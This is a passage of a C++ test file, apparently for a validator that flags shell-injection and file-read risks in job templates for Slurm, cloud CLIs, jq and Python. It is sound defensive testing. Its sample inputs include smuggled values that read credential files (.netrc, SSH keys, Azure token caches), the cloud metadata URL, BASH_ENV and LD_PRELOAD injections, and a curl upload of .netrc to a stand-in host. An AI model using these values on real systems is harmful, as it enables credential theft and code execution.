  for (const char* form : {"exec 3>&2 2> replay.sh\ntype \"%X%\" >/dev/null\nexec 2>&3\nbash replay.sh",
                           "exec 3>replay.sh\nexec 2>&3\ncd \"%X%\"\nsource replay.sh", "exec &>out.sh\nls \"%X%\"\nbash out.sh"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("exec 2>>job.err\ntype \"%X%\" || true\ntail -n 20 job.err")).empty());
  // Hunt 49: a log of the shell's messages, or a file a value was written
  // into, uploaded as it is: text, whatever the value holds.
  for (const char* form : {"exec 2> logs/stderr.log\npython3 train.py --name \"%X%\"\naws s3 cp logs/stderr.log s3://b/",
                           "{\n  set -x\n  srun python3 train.py --run-name \"%X%\"\n  set +x\n} 2> t.log\ngsutil cp t.log gs://b/",
                           "echo \"%X%\" > notes.txt\naws s3 cp notes.txt s3://b/notes.txt",
                           "exec 2> err.log\necho \"%X%\"\nhf upload org/runs err.log logs/err.log",
                           "exec 2> err.log\necho \"%X%\"\nclearml-data add --files err.log"}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "John's run, v2 [#3] {x}")) << form;
  }
  // (Review 40: an upload's options may name a file it parses.)
  for (const char* form : {"printf '{\"--project\": \"%%s\"}\\n' \"%X%\" > flags\ngcloud storage cp --flags-file=flags out.txt gs://b/",
                           "echo \"%X%\" > rc\nrclone copy --config rc out.txt r:b/"})
    EXPECT_TRUE(!rules(task(form)).empty() || refuses(placement(task(form)), "x\", \"--impersonate-service-account\": \"a@b"))
        << form;
}

// Hunt 48 01: read -r with one name keeps the first line without the
// blanks around it: its start is the value's first other character.
TEST(ValueSinks, ReadIntoOneNameTrimsBlanksOnly) {
  const auto pl = placement(task("read -r MODEL <<< \"%X%\"\npython3 train.py --model \"$MODEL\""));
  EXPECT_FALSE(refuses(pl, "meta-llama/Llama-3.1-8B"));
  for (const char* hostile : {"-c", "  -c", "\t@args", " !"}) EXPECT_TRUE(refuses(pl, hostile)) << hostile;
  // Review 40: in a group or a loop reading one input, a later read gets a
  // later line of a |raw value.
  for (const char* form : {"{ read -r A; read -r B; } <<< \"%X%\"\npython3 train.py --model \"$B\"",
                           "while read -r L; do python3 train.py --model \"$L\"; done <<< \"%X%\""})
    EXPECT_TRUE(refuses(placement(task(form)), "meta-llama/Llama-3.1-8B")) << form;
  // Without -r a backslash goes ('\-c' is -c); two names split the line.
  for (const char* form : {"read MODEL <<< \"%X%\"\npython3 train.py --model \"$MODEL\"",
                           "read -r A B <<< \"%X%\"\npython3 train.py --model \"$B\""})
    EXPECT_TRUE(refuses(placement(task(form)), "meta-llama/Llama-3.1-8B")) << form;
}

// Attack 131: a file made executable runs however it is started (run-parts,
// find -exec {} \;, a lookup in PATH), and run-parts, find -exec {} and
// xargs sh run the files they find.
TEST(ValueSinks, AFileMadeExecutableIsCode) {
  const std::string hook = "mkdir -p hooks.d\ncat > hooks.d/10-notify <<EOF\n#!/bin/sh\necho \"starting %X%\"\nEOF\n";
  for (const char* run : {"chmod +x hooks.d/10-notify", "chmod 755 hooks.d/10-notify", "chmod u=rwx,go=r hooks.d/10-notify",
                          "chmod -R 750 hooks.d", "chmod a+x hooks.d/*", "install -m 0755 hooks.d/10-notify /opt/hooks/",
                          "install hooks.d/10-notify bin/notify", "run-parts --verbose hooks.d",
                          "chmod -- 755 hooks.d/10-notify", "chmod -R -- u+x hooks.d",
                          "find hooks.d -type f -exec {} \\;", "find hooks.d -type f | sort | xargs -n1 sh"})
    EXPECT_TRUE(refused(task(hook + run), "value-parsed-as-code")) << run;
  for (const char* run : {"chmod 644 hooks.d/10-notify", "chmod -R g+rX hooks.d", "chmod go-x hooks.d/10-notify",
                          "install -m 644 hooks.d/10-notify /opt/notes/", "install -d hooks.d/more"})
    EXPECT_TRUE(rules(task(hook + run)).empty()) << run;
}

// Attack 132 05: aws reads a parameter starting with file:// or fileb://
// as that local file's text, and sends it.
TEST(ValueSinks, AnCloudCliArgumentIsNoLocalFile) {
  for (const char* form : {"aws sns publish --topic-arn arn:aws:sns:us-east-1:1:t --message \"%X%\"",
                           "M=\"%X%\"\naws logs put-log-events --log-group-name g --log-stream-name s --log-events \"$M\"",
                           "aws s3api put-object --bucket b --key k --tagging=\"%X%\""}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "finished: resnet run 3 (see https://wandb.ai/x)")) << form;
    for (const char* hostile : {"file:///home/glue/.netrc", "FILE://x", "fileb://~/.ssh/id_rsa",
                                "stolen@=file:///home/glue/.netrc", "http://169.254.169.254/latest/meta-data/"})
      EXPECT_TRUE(refuses(pl, hostile)) << form << hostile;
  }
  // Attack 133: the template's own file:// makes the rest a file aws sends;
  // --profile and AWS_PROFILE choose the account it acts as.
  EXPECT_TRUE(refuses(placement(task("aws ssm put-parameter --name n --value \"file://${SLURM_SUBMIT_DIR}/%X%\"")),
                      ".aws/credentials"));
  for (const char* form : {"aws --profile \"%X%\" s3 ls", "export AWS_PROFILE=\"%X%\"\naws s3 ls"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
}

// Attack 133: curl -T expands {a,b} and [1-9] in the files it sends;
// gsutil, gcloud storage and git read a file: URL as a local path.
TEST(ValueSinks, FilesSentAreNoPatternsOrFileUrls) {
  EXPECT_TRUE(refuses(placement(task("curl -T \"%X%\" https://up.example/")), "{/home/glue/.netrc,model.pt}"));
  EXPECT_TRUE(refuses(placement(task("gsutil cp \"%X%\" gs://b/")), "file:///home/glue/.netrc"));
  EXPECT_FALSE(refuses(placement(task("gsutil cp \"%X%\" gs://b/")), "outputs/model.pt"));
  // Attack 134: az reads @FILE at an argument's start and after its first
  // '='; gcloud splits a flag's value at ',' (or at ^DELIM^'s character).
  for (const char* form : {"az ml job update --name j --set display_name=\"%X%\"", "az group update -n g --tags \"c=%X%\""}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "resnet50 baseline")) << form;
    for (const char* hostile : {"@/home/glue/.ssh/id_rsa", "@~/.azure/msal_token_cache.json"})
      EXPECT_TRUE(refuses(pl, hostile)) << form << hostile;
  }
  EXPECT_TRUE(refuses(placement(task("az vm create --name \"%X%\"")), "x=@/home/glue/.netrc"));
  for (const char* form : {"gcloud run jobs update j --update-env-vars=LR=\"%X%\",EPOCHS=10",
                           "gcloud run jobs update j --update-env-vars \"%X%\""}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "0.1")) << form;
    for (const char* hostile : {"0.1,BASH_ENV=/tmp/x", "^;^A=1;LD_PRELOAD=/tmp/e.so"})
      EXPECT_TRUE(refuses(pl, hostile)) << form << hostile;
  }
  // Hunt 51: each CLI's own rule only; gcloud's string flags are whole.
  for (const char* form : {"aws sns publish --topic-arn t --message \"%X%\"", "gcloud pubsub topics publish t --message=\"%X%\"",
                           "gcloud ai custom-jobs create --display-name \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "^v2 resnet, \"best\" @ml-team")) << form;
  // aws-cli v1 fetches only a parameter that starts with the URL.
  EXPECT_FALSE(refuses(placement(task("aws ec2 create-tags --resources r --tags Key=d,Value=\"%X%\"")), "https://wandb.ai/x"));
  EXPECT_FALSE(refuses(placement(task("aws sns publish --topic-arn t --message \"see %X%\"")), "https://wandb.ai/x"));
}

// Attack 135: helm --set items written into an array of its options.
TEST(ValueSinks, HelmSetItemsInAnArrayAreOneItem) {
  const auto pl = placement(task("A=(--namespace ml)\nA+=(--set \"train.lr=%X%\")\nhelm upgrade --install j ./chart \"${A[@]}\""));
  EXPECT_FALSE(refuses(pl, "0.1"));
  EXPECT_TRUE(refuses(pl, "0.1,image.repository=evil"));
}

// Attack 136: workflow engines paste their parameters into the scripts of
// their steps, as make and snakemake do.
TEST(ValueSinks, WorkflowEngineParametersAreCode) {
  for (const char* form : {"argo submit wf.yaml --wait -p lr=%X%", "argo submit wf.yaml --parameter=\"lr=%X%\"",
                           "tkn pipeline start train -p run-name=%X%", "tkn task start t --param \"n=%X%\"",
                           "gh workflow run publish.yml -f run_name=%X%", "gh workflow run p.yml --raw-field=\"n=%X%\"",
                           "gcloud builds submit --substitutions=_RUN=%X% .",
                           "az pipelines run --name train --parameters \"run=%X%\"",
                           "az pipelines run --name train --variables \"run=%X%\"",
                           "gh api repos/o/r/actions/workflows/w.yml/dispatches -f \"inputs[run]=%X%\"",
                           // (review 41: gh and az commands an expansion names)
                           "C=\"workflow run\"\ngh $C ci.yml -f msg=%X%", "gh api -X POST \"$API\" -f \"inputs[m]=%X%\"",
                           "az $GROUP run --name t --parameters \"run=%X%\"",
                           "wandb launch --entry-point \"python3 train.py --run-name '%X%'\" --queue q",
                           "dstack run . --experiment \"%X%\"", "bsub -n 4 python3 t.py --lr \"%X%\"",
                           "qsub -b y -cwd python3 t.py --lr \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // (False refusals of hunt 52: elsewhere gh -F names a file and -f sends
  // a string, az --parameters fills typed ARM parameters.)
  for (const char* form : {"gh release create v1 -F \"%X%\"", "gh api repos/o/r/statuses/abc -f \"description=%X%\"",
                           "gh issue create -t t -F \"%X%\"", "gh gist create -f \"%X%\" out.txt",
                           "az deployment group create -g rg -f main.bicep --parameters \"runName=%X%\""})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// Attack 137: the template's '.' after a value in a warning filter's
// category makes the value the module python imports; dask's --preload
// imports the module or file it is given.
TEST(ValueSinks, ModulesChosenByPythonWarningsAndDaskPreload) {
  for (const char* form : {"python3 -W \"ignore::%X%.VisibleDeprecationWarning\" t.py",
                           "python3 -X importtime -W\"error::%X%.Warning\" t.py",
                           "python3 -W \"ignore:%X%.Warning\" t.py",
                           // (review 41: the '.' an expansion brings)
                           "S=.Warning\npython3 -W \"ignore::%X%$S\" t.py", "python3 -W \"ignore::%X%${S:-.Warning}\" t.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A '.' in the module field, or after the template's own ':', is a regex.
  for (const char* form : {"python3 -W \"ignore:%X%:DeprecationWarning:numpy.core\" t.py",
                           "python3 -W \"ignore:%X%:numpy.VisibleDeprecationWarning\" t.py"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
  // In the module field a dotted value is a regex python matches (fr hunt 54).
  EXPECT_FALSE(refuses(placement(task("python3 -W \"ignore::DeprecationWarning:%X%\" t.py")), "torch.distributed.elastic"));
  EXPECT_TRUE(refuses(placement(task("python3 -W \"ignore::%X%\" t.py")), "torch.Warning"));
  // (attack 144: -W after switches in one word, and pytest's -W)
  for (const char* form : {"python3 -uW \"ignore::%X%\" t.py", "python3 -OWignore::%X% t.py", "pytest -W \"ignore::%X%\"",
                           "python3 -m pytest --pythonwarnings=\"ignore::%X%\" tests"})
    EXPECT_TRUE(refuses(placement(task(form)), "this.Warning")) << form;
  for (const char* form : {"dask worker tcp://h:8786 --preload \"%X%\"", "dask-scheduler --preload=\"%X%\"",
                           "ipython --TerminalIPythonApp.interactive_shell_class=\"%X%\"",
                           "jupyter nbconvert --to \"%X%\" nb.ipynb",
                           "rq worker -c \"%X%\"", "luigi --module \"%X%\" Train", "dagster job execute -m \"%X%\"",
                           "huey_consumer \"%X%\"", "arq \"%X%\""})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
}

// $RUN\<newline>VALUE: the value follows the name once bash joins the lines
// (attack 141), so a value starting with a name's character is a reference.
TEST(ValueSinks, ValueAfterANameOnTheNextLineOfAContinuation) {
  const auto p = placement(task("echo $RUN\\\n%X%"));
  EXPECT_TRUE(p.context.after_name);
  EXPECT_FALSE(placement(task("echo $RUN \\\n%X%")).context.after_name);
}

// jq --argjson with the template's own JSON leaves jq's output JSON it
// encoded; with a value's, the value's structure (fr hunt 54).
TEST(ValueSinks, JqArgjsonOfTheTemplatesOwnText) {
  const char* apostrophe = "ResNet50 it's a baseline (v2)";
  EXPECT_FALSE(refuses(placement(task("jq -n --arg name \"%X%\" --argjson epochs 90 '{name: $name, epochs: $epochs}' > run.json\n"
                                      "python3 t.py --config run.json")),
                       apostrophe));
  EXPECT_TRUE(refuses(placement(task("E=\"%X%\"\njq -n --argjson e \"$E\" '{e: $e}' > run.json\npython3 t.py --config run.json")),
                      "{\"a\": 1}"));
  // Also where jq edits a JSON file the template names (fr hunt 56).
  EXPECT_FALSE(refuses(placement(task("jq --arg name \"%X%\" --argjson bs 32 '.bs = $bs | .name = $name' /opt/ds.json > run.json\n"
                                      "python3 t.py --config run.json")),
                       apostrophe));
  // A value as a key or a path of what jq writes (attack 144): its text is
  // then the file's, under the data rule (no quote), not a string jq encoded.
  for (const char* filter : {"'.[$k] = 1'", "'{($k): 1}'", "'{\"run_\\($k)\": 1}'", "'setpath($k | split(\".\"); 1)'",
                             "'$ENV | {(.K): 0}' ", "'{(env.K): 0}'", "'$ARGS.named'"})
    EXPECT_TRUE(refuses(placement(task(std::string("jq -n --arg k \"%X%\" ") + filter + " > log.json\npython3 t.py --log log.json")),
                        "a\"b"))
        << filter;
  EXPECT_FALSE(refuses(placement(task("jq -n --arg k \"%X%\" '{name: $k}' > log.json\npython3 t.py --log log.json")), "a\"b"));
  // A value in parentheses, an array of it, a typed number: no key (fr hunt 55).
  for (const char* filter : {"--arg lr 0.1 '{name: $k, lr: ($lr|tonumber)}'", "'{tags: [$k]}'",
                             "--argjson e ${CLEARML_TASK.hyperparams.Args.e.value:1|number} '{name: $k, e: $e}'"})
    EXPECT_FALSE(refuses(placement(task(std::string("jq -n --arg k \"%X%\" ") + filter + " > log.json\npython3 t.py --log log.json")),
                         "a\"b"))
        << filter;
}

// $(( $(... | wc -c) + 1 )): arithmetic reads the count the command prints,
// not the words of the command (fr hunt 56); what a command prints of the
// value itself still reaches arithmetic.
TEST(ValueSinks, ArithmeticReadsWhatACommandSubstitutionPrints) {
  for (const char* form : {"G=\"%X%\"\nN=$(( $(echo \"$G\" | tr -cd , | wc -c) + 1 ))\ntorchrun --nproc_per_node \"$N\" x.py",
                           "G=\"%X%\"\nN=$(( $(tr -cd , <<< \"$G\" | wc -c) + 1 ))\ntorchrun --nproc_per_node \"$N\" x.py",
                           "G=\"%X%\"\nN=$(( `echo \"$G\" | wc -l` + 1 ))\necho \"$N\""})
    EXPECT_NE(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
  // (Attack 148: a command that rewrites the value, here dropping the
  // blank that kept '$' and '(' apart, passes it on to arithmetic.)
  for (const char* form : {"G=\"%X%\"\necho $(( $(echo \"$G\") + 1 ))", "G=\"%X%\"\necho $(( `echo \"$G\"` + 1 ))",
                           "G=\"%X%\"\nN=$(( $(tr -d ' ' <<< \"$G\") ))\necho \"$N\"", "G=\"%X%\"\n(( $(echo \"$G\" | tr -d ' ') > 1 ))"})
    EXPECT_EQ(placement(task(form)).context.quoting, sg::render::Quoting::Arithmetic) << form;
}

// What a program prints back of what the template stored: a link's
// target, a commit message, an archive's comment (attack 152).
TEST(ValueSinks, StoredValuesPrintedBackIntoArithmetic) {
  using Q = sg::render::Quoting;
  for (const char* form : {"ln -sfn \"%X%\" latest\nT=$(readlink latest)\necho $(( ${T##*step_} + 1 ))",
                           "git -C run commit -q --allow-empty -m \"%X%\"\nL=$(git -C run log -1 --format=%s)\n(( L > 0 ))",
                           "zip -qr r.zip out\nprintf '%s\\n' \"%X%\" | zip -qz r.zip\nE=$(unzip -z r.zip | tail -n 1)\n"
                           "for (( e=0; e<E; e++ )); do :; done"})
    EXPECT_EQ(placement(task(form)).context.quoting, Q::Arithmetic) << form;
}

// |words after a launcher's script, where a launcher option's value is a
// quoted expansion (fr hunt 57); unquoted, it may be no word or several.
TEST(ValueSinks, WordsAfterALauncherWhoseOptionValueExpands) {
  const std::string words = " train.py ${CLEARML_TASK.hyperparams.Args.overrides.value|words}";
  EXPECT_TRUE(rules("torchrun --nnodes \"$SLURM_NNODES\" --nproc_per_node 4" + words).empty());
  EXPECT_TRUE(rules("torchrun --rdzv_endpoint \"$MASTER_ADDR:29500\"" + words).empty());
  EXPECT_TRUE(refused("torchrun --nnodes $SLURM_NNODES" + words, "words-position"));
  EXPECT_TRUE(refused("torchrun \"$OPT\"" + words, "words-position"));
  // A |number value is one word, never empty (fr hunt 61).
  EXPECT_FALSE(refused("torchrun --nproc_per_node ${CLEARML_TASK.hyperparams.Args.g.value:8|number}" + words, "words-position"));
  EXPECT_TRUE(refused("torchrun --nproc_per_node ${CLEARML_TASK.hyperparams.Args.g.value:8}" + words, "words-position"));
}

// Slurm's record of the job holds what the #SBATCH lines set; what squeue
// prints of it into arithmetic is evaluated (attack 148).
TEST(ValueSinks, TheJobRecordPrintedIntoArithmetic) {
  EXPECT_TRUE(refused(task("#SBATCH --comment=%X%\nR=$(( $(squeue -h -j \"$SLURM_JOB_ID\" -o %k | cut -d= -f2) + 0 ))\necho $R"),
                      "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("#SBATCH --comment=%X%\nR=$(squeue -h -j \"$SLURM_JOB_ID\" -o %k)\necho $(( R + 1 ))"),
                      "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("#SBATCH --comment=%X%\nN=$(( $(squeue -h -u \"$USER\" | wc -l) + 1 ))\necho $N")).empty());
  // A format of numbers only (fr hunt 57); one with the name or comment is the record.
  for (const char* query : {"squeue -j \"$SLURM_JOB_ID\" -h -o %D", "squeue -h -j \"$SLURM_JOB_ID\" --format=%.5C",
                            "sacct -j \"$SLURM_JOB_ID\" -X -n -o ElapsedRaw | head -n 1"})
    EXPECT_TRUE(rules(task(std::string("#SBATCH --comment=%X%\nN=$(( $(") + query + ") ))\necho $N")).empty()) << query;
  for (const char* query : {"squeue -j \"$SLURM_JOB_ID\" -h -o %D%k", "sacct -j \"$SLURM_JOB_ID\" -n -o NNodes,Comment",
                            // (attack 151: -l adds the long field list, -B the script)
                            "sacct -n -X -P -j \"$SLURM_JOB_ID\" -o ElapsedRaw -l", "sacct -j \"$SLURM_JOB_ID\" -o ElapsedRaw -B"})
    EXPECT_TRUE(refused(task(std::string("#SBATCH --comment=%X%\nN=$(( $(") + query + ") ))\necho $N"), "value-parsed-as-code"))
        << query;
  // grep -c over a glob prints the names it finds; Slurm names the job's
  // logs by --output, %x there by --job-name (attack 149).
  for (const char* lister : {"vdir -t logs | awk 'NR==2{print $NF}'", "tar -cvf l.tar logs | tail -n 1",
                             "rsync -a --list-only logs/ | tail -n 1", "zip -r logs.zip logs | tail -n 1"})
    EXPECT_TRUE(refused(task(std::string("#SBATCH --job-name=%X%\n#SBATCH --output=logs/%x-%j.out\nL=$(") + lister +
                             ")\n(( L > 0 ))"),
                        "value-parsed-as-code"))
        << lister;
  EXPECT_TRUE(refused(task("#SBATCH --job-name=%X%\n#SBATCH --output=logs/%x-%j.out\n"
                           "E=$(grep -c Traceback logs/*-\"$SLURM_JOB_ID\".*)\nif (( E > 0 )); then echo failed; fi"),
                      "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("#SBATCH --job-name=%X%\n#SBATCH --output=logs/%x-%j.out\n"
                         "E=$(grep -c Traceback \"logs/run-$SLURM_JOB_ID.out\")\nif (( E > 0 )); then echo failed; fi")).empty());
}

// Each write of a data file is held by the rule of what it carries: yq -i
// encoding a string into a copy cp made of the admin's file is not a raw
// write (fr hunt 56); a raw write beside it still is.
TEST(ValueSinks, EachWriteOfADataFileIsHeldByItsOwnRule) {
  // Whether `value` is refused where `writes` puts it before a trainer reads `config`.
  // (A program found in PATH, not a script: a file written under a name
  // chosen at run time could be train.py, every value then refused as code.)
  const auto refused_before_trainer = [](const std::string& writes, const std::string& value,
                                         const std::string& config = "--config run.yaml") {
    return refuses(placement(task(writes + "\nsrun trainer --nproc_per_node=8 " + config)), value);
  };
  const std::string staged = "cp /opt/conf/base.yaml run/cfg.yaml\nexport RUN_NAME=\"%X%\"\n"
                             "yq -i '.wandb.name = strenv(RUN_NAME)' run/cfg.yaml\n";
  EXPECT_FALSE(refuses(placement(task(staged + "python3 train.py --config run/cfg.yaml")), "Bob's run [v2]"));
  EXPECT_TRUE(refuses(placement(task(staged + "echo \"name: $RUN_NAME\" >> run/cfg.yaml\npython3 train.py --config run/cfg.yaml")),
                      "Bob's run [v2]"));
  // What reaches the file otherwise (a hard link written under another
  // name, attack 148) is held by the rules of the file's name.
  EXPECT_TRUE(refuses(placement(task("cat > run.yaml <<'EOF'\nlr: 0.1\nEOF\nln -f run.yaml archive/job.txt\n"
                                     "printf '# %s\\n' \"%X%\" >> archive/job.txt\npython3 train.py --config run.yaml")),
                      "x\nkey: 1"));
  // A copy of a file of the same format keeps what its writes made of the
  // value (attack 148 fr-01).
  for (const char* copy : {"cp run_meta.json logs/", "cp run_meta.json logs/meta.json", "mv run_meta.json final.json"})
    EXPECT_FALSE(refused_before_trainer(std::string("jq -n --arg name \"%X%\" '{run_name: $name}' > run_meta.json\n") + copy,
                                        "John's run, v2", "--meta run_meta.json"))
        << copy;
  // (Written under a copy's suffix first: fr hunt 57.)
  EXPECT_FALSE(refused_before_trainer("jq -n --arg name \"%X%\" '{run_name: $name}' > meta.json.tmp\nmv meta.json.tmp meta.json",
                                      "John's run, v2", "--meta meta.json"));
  EXPECT_TRUE(refused_before_trainer("jq -n --arg name \"%X%\" '{run_name: $name}' > run_meta.json\n"
                                     "jq -r .run_name run_meta.json > name.txt\ncp name.txt run.yaml",
                                     "x\nkey: 1"));
  // cp -s and cp -l make links: a write to the link is one to the data
  // file (attack 150), as after ln, also for a file the template only names.
  for (const char* link : {"cp -s train.yaml card.txt", "cp -l train.yaml card.txt", "cp -al train.yaml card.txt",
                           "cp --symbolic-link train.yaml card.txt", "ln train.yaml card.txt"})
    EXPECT_TRUE(refused_before_trainer(std::string(link) + "\necho \"# %X%\" >> card.txt", "x\nlr: 1000", "--config train.yaml"))
        << link;
  // A file mktemp makes is no file the template names otherwise (fr hunt
  // 57), but what reads it by its variable reads it.
  EXPECT_FALSE(refuses(placement(task("TMP=$(mktemp)\njq -n --arg name \"%X%\" '{run_name: $name}' > \"$TMP\"\n"
                                      "python3 train.py --meta \"$TMP\"")),
                       "John's run, v2"));
  EXPECT_TRUE(refused(task("T=$(mktemp)\necho \"%X%\" > \"$T\"\nbash \"$T\""), "value-parsed-as-code"));
  // Through a descriptor exec {fd}>> opened, or by code python reads from
  // its standard input (attack 148).
  for (const char* write : {"exec {fd}>>run.yaml\nprintf 'notes: %s\\n' \"%X%\" >&$fd\nexec {fd}>&-",
                            "python3 - \"%X%\" <<'PY'\nimport sys\nopen(\"run.yaml\", \"a\").write(\"n: \" + sys.argv[1])\nPY",
                            "python3 - \"%X%\" <<< 'import sys; open(\"run.yaml\", \"a\").write(sys.argv[1])'"})
    EXPECT_TRUE(refused_before_trainer(write, "x\nkey: 1")) << write;
  // A file written under a name spelled with an expansion may be the data
  // file the template names elsewhere (attack 148).
  for (const char* publish : {"mv run.{draft,yaml}", "mv run.draft \"run.${EXT:-yaml}\"", "mv run.draft run.$(echo yaml)",
                              "for e in yaml; do mv run.draft run.$e; done", "mv run.draft run.yam?"})
    EXPECT_TRUE(refused_before_trainer(std::string("cat > run.draft <<EOF\nname: %X%\nEOF\n") + publish, "x\nkey: 1"))
        << publish;
  EXPECT_FALSE(refused_before_trainer("cat > run.draft <<EOF\nname: %X%\nEOF\nmv run.draft \"run-$SLURM_JOB_ID.log\"",
                                      "x\nkey: 1"));
  EXPECT_TRUE(refuses(placement(task("echo \"name: %X%\" > notes.txt\ncp notes.txt run/cfg.yaml\n"
                                     "yq -i '.a = strenv(HOME)' run/cfg.yaml\npython3 train.py --config run/cfg.yaml")),
                      "x\nkey: 1"));
}

// A data file's bytes put under a code file's name by what the template
// runs (attack 153): a function's output, operands given as a list, the
// backup a copy or an in-place edit keeps, SQL that writes files.
TEST(ValueSinks, DataFileBytesUnderACodeNameAreCode) {
  const std::string notes = "cat > notes.txt <<EOF\n%X%\nEOF\n";
  for (const char* move : {"show() { cat notes.txt; }\nshow > hook.py", "show() { cat < notes.txt; }\nshow | tee hook.py",
                           "names=(notes.txt hook.py)\ncp \"${names[@]}\"", "set -- notes.txt hook.py\ncp \"$@\"",
                           "cp notes.txt hook\ncp --backup=simple --suffix=.py /dev/null hook",
                           "cp notes.txt hook\ninstall -b -S .py -m 644 /dev/null hook",
                           "cp notes.txt hook\nln -sfb -S .py /dev/null hook", "cp notes.txt hook\nmv -b -S .py /dev/null hook",
                           "cp notes.txt hook\nrsync -ab --suffix=.py /dev/null hook",
                           "cp notes.txt hook\nSIMPLE_BACKUP_SUFFIX=.py cp -b /dev/null hook",
                           "cp notes.txt hook\npatch -b -z .py hook < /dev/null", "cp notes.txt hook\nsed -i.py 's/^$//' hook",
                           "cp notes.txt hook\nsed -i'*.py' 's/x/y/' hook", "cp notes.txt hook\nperl -pi.py -e '' hook",
                           "sqlite3 :memory: \"select writefile('hook.py', readfile('notes.txt'));\""})
    EXPECT_TRUE(refused(task(notes + move + "\npython3 hook.py"), "value-parsed-as-code")) << move;
  // Backups under names no program runs, edits that keep none.
  for (const char* keep : {"cp notes.txt hook\ncp -b /dev/null hook", "cp notes.txt hook\nsed -i 's/x/y/' hook",
                           "cp notes.txt hook\nperl -pi -e 1 hook", "show() { cat notes.txt; }\nshow > out.log",
                           "sqlite3 db.sqlite 'select 1'", "cp notes.txt hook\ncp -b -S .bak /dev/null hook"})
    EXPECT_FALSE(refused(task(notes + keep + "\npython3 hook.py"), "value-parsed-as-code")) << keep;
}

// Code that writes files by lower-level calls (attack 154): a descriptor
// opened for writing, standard output moved onto it, a memory map,
// sendfile, Perl's read-write open and sysopen; and a module written
// under a name chosen at run time, which Python may import.
TEST(ValueSinks, LowLevelWritesOfCodeFiles) {
  for (const char* form :
       {"export N=\"%X%\"\npython3 - <<'PY'\nimport os\nfd = os.open(\"run/pro.sh\", os.O_CREAT | os.O_WRONLY)\n"
        "os.dup2(fd, 1)\nprint(os.environ[\"N\"])\nPY\nsource run/pro.sh",
        "export N=\"%X%\"\npython3 - <<'PY'\nimport os, mmap\nb = os.environ[\"N\"].encode()\n"
        "fd = os.open(\"run/settings.py\", os.O_CREAT | os.O_RDWR)\nos.ftruncate(fd, len(b))\nm = mmap.mmap(fd, len(b))\n"
        "m[:] = b\nPY\ncd run\npython3 -c 'import settings'",
        "export N=\"%X%\"\nperl -e 'open(my $f, \"+<\", \"run/epilog.sh\"); seek($f, 0, 2); print $f $ENV{N}'\nbash run/epilog.sh",
        "export N=\"%X%\"\nperl -MFcntl -e 'sysopen(my $f, \"run/cfg.py\", O_WRONLY|O_CREAT); select $f; print $ENV{N}'\n"
        "python3 -c 'import cfg'",
        "export N=\"%X%\"\necho \"$N\" > \"$F\"\npython3 -c 'from job_settings import X'"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A literal brace expansion names both files (mv run.{tmp,yaml}; fr hunt 57).
  for (const char* move : {"mv notes.{txt,py}\npython3 notes.py", "mv notes.txt{,.py}\npython3 notes.py",
                           "cp {notes.txt,hook.sh}\nbash hook.sh"})
    EXPECT_TRUE(refused(task(std::string("cat > notes.txt <<EOF\n%X%\nEOF\n") + move), "value-parsed-as-code")) << move;
  EXPECT_FALSE(refused(task("cat > run.tmp <<EOF\ndataset: %X%\nEOF\nmv run.{tmp,yaml}\npython3 train.py --config run.yaml"),
                       "value-parsed-as-code"));
  // Python's other write modes, and a mode it computes (attack 155).
  for (const char* mode : {"\"at\"", "\"x+\"", "\"tw\"", "chr(119)", "mode=\"a\""})
    EXPECT_TRUE(refused(task(std::string("export N=\"%X%\"\npython3 - <<'PY'\nimport os\nf = open(\"epilog.sh\", ") + mode +
                             ")\nprint(\"echo\", os.environ[\"N\"], file=f)\nPY\nbash ./epilog.sh"),
                        "value-parsed-as-code"))
        << mode;
  // Perl's open without parentheses, IO::File, fileinput in place and
  // deletions write files a value may name (attack 156).
  for (const char* code : {"perl -e 'open MANIFEST, \">$ARGV[0]\" or die; print MANIFEST \"x\"' \"%X%\"",
                           "perl -e 'use IO::File; my $f = IO::File->new($ARGV[0], \"w\"); print $f 1' \"%X%\"",
                           "python3 -c 'import fileinput, sys\nfor l in fileinput.input(sys.argv[1], inplace=True): print(l)' \"%X%\"",
                           "python3 -c 'import os, sys; os.remove(sys.argv[1])' \"%X%\""})
    EXPECT_TRUE(refuses(placement(task(code)), "/home/glue/.bashrc")) << code;
  // A name the code holds as data is no file it writes (fr hunt 60).
  EXPECT_FALSE(refuses(placement(task("export N=\"%X%\"\npython3 - <<'PY'\nimport json, os\nm = {\"name\": os.environ[\"N\"], "
                                      "\"entry_point\": \"train.py\"}\nwith open(\"out/manifest.json\", \"w\") as f:\n"
                                      "    json.dump(m, f)\nPY\npython3 train.py --manifest out/manifest.json")),
                       "Anna's run [v2]"));
  // A copy of several files into a directory puts each under its own name (fr hunts 59, 60).
  for (const char* copy : {"cp meta/notes.txt scripts/launch.py /local/stage/\npython3 /local/stage/launch.py",
                           "FILES=(meta/notes.txt scripts/launch.py)\ncp \"${FILES[@]}\" \"$STAGE/\"\npython3 \"$STAGE/launch.py\""})
    EXPECT_FALSE(refused(task(std::string("echo \"%X%\" > meta/notes.txt\n") + copy), "value-parsed-as-code")) << copy;
  // A '/' inside a brace expansion separates no name of its own (attack 157).
  for (const char* move : {"cp {run/notes.txt,run/hook.py}\npython3 run/hook.py", "mv run{/notes.txt,/hook.py}\npython3 run/hook.py",
                           "python3 {run/notes.txt,}", "source {run/notes.txt,}"})
    EXPECT_TRUE(refused(task(std::string("cat > run/notes.txt <<EOF\n%X%\nEOF\n") + move), "value-parsed-as-code")) << move;
  // What curl or wget fetch is no text of the URL; an output option's
  // name through a variable of one text names that file (fr hunt 61).
